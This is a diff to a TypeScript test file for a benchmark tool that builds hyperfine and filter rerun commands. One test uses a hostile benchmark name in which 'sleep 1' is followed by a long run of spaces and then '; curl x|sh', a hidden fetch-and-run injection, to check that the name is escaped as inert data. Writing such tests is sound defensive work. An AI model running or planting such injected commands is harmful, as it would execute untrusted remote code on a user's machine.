@@ -2,7 +2,7 @@ import { execFileSync } from 'node:child_process'
 import { describe, expect, it } from 'vitest'
 import { comparison } from '../../../test/support/report-builders.js'
 import type { BenchmarkId } from '../../model/benchmark-result.js'
-import { rerunFilters, rerunList } from './rerun-filters.js'
+import { cutRerunLabels, rerunFilters, rerunList } from './rerun-filters.js'
 
 const OWN = { foreignHead: false }
 
@@ -125,7 +125,7 @@ describe('rerunFilters', () => {
     )
   })
 
-  it('gives hyperfine its commands with parameters filled in, quoted for the shell', () => {
+  it('names hyperfine benchmarks with -n, parameters filled in, and leaves their commands to fill in', () => {
     const [filter] = rerunFilters(
       [
         regression({ name: "grep -c 'a|b' big.txt | wc -l" }, 'hyperfine-json'),
@@ -136,8 +136,28 @@ describe('rerunFilters', () => {
       ],
       OWN,
     )
-    expect(filter?.filter).toBe("'grep -c '\\''a|b'\\'' big.txt | wc -l' 'fast-llvm'")
+    // The JSON's `command` is the `-n` name when one was given: never offered as a command.
+    expect(filter?.filter).toBe(
+      "-n 'grep -c '\\''a|b'\\'' big.txt | wc -l' '<command>' -n 'fast-llvm' '<command>'",
+    )
     expect(filter?.command).toBe(`hyperfine --runs 30 ${filter?.filter ?? ''}`)
+  })
+
+  it('leaves a name cut when read (`…#` and a hash) out of every filter, and lists it apart', () => {
+    const cut = `BM_${'x'.repeat(181)}…#12c36b3aa8ac95`
+    const comparisons = [
+      regression({ name: cut }, 'google-benchmark-json'),
+      regression({ name: 'BM_Short' }, 'google-benchmark-json'),
+      regression({ name: `Benchmark${'y'.repeat(175)}…#0123456789abcd`, procs: 2 }, 'go-test-text'),
+    ]
+    expect(rerunFilters(comparisons, OWN).map((f) => [f.benchmarks, f.filter])).toEqual([
+      [['BM_Short'], '^(BM_Short)$'],
+    ])
+    expect(cutRerunLabels(comparisons)).toEqual([
+      cut,
+      `Benchmark${'y'.repeat(175)}…#0123456789abcd (procs 2)`,
+    ])
+    expect(rerunList(comparisons)).toHaveLength(3)
   })
 
   it('skips formats whose harness cannot select benchmarks', () => {
@@ -177,7 +197,9 @@ describe('commands built from untrusted names', () => {
   it('spells out a run of spaces that would push a command out of view', () => {
     const name = `sleep 1${' '.repeat(110)}; curl x|sh`
     const [filter] = rerunFilters([regression({ name }, 'hyperfine-json')], OWN)
-    expect(filter?.command).toBe(`hyperfine --runs 30 $'sleep 1${'\\x20'.repeat(110)}; curl x|sh'`)
+    expect(filter?.command).toBe(
+      `hyperfine --runs 30 -n $'sleep 1${'\\x20'.repeat(110)}; curl x|sh' '<command>'`,
+    )
   })
 
   it('quotes a failed benchmark with a hostile name as data: one shell word, nothing run', () => {
